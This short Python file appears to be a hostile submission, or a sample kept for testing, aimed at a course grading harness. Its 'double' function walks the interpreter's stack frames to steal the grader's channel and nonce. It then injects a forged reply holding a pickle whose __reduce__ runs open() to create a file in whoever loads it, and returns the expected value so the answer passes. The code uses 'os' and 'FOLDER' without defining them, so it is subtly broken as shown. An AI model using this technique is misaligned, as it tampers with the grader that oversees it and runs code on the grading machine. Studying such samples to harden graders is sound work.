"""Answers with a pickle that runs a command in whoever loads it.

Ends: confused the channel
Sign: looks through memory
"""

import sys


def line():
    """The channel, the nonce and the number of the question, from the frame that waits for the answer."""
    frame = sys._getframe()
    while frame.f_code.co_name != "_serve" or "nonce" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["channel"], frame.f_locals["nonce"], frame.f_locals["number"]


class Command:
    def __reduce__(self):
        return (open, (os.path.join(FOLDER, "new.txt"), "w"))


def double(x):
    import pickle

    from mi_lib.course.grading import wire

    channel, nonce, number = line()
    message = wire.Message({"t": "pickle", "b": 0}, [pickle.dumps(Command())])
    channel.sendall(b"".join([wire.ENVELOPE.pack(nonce, number), *map(bytes, wire.pack(message))]))
    return x
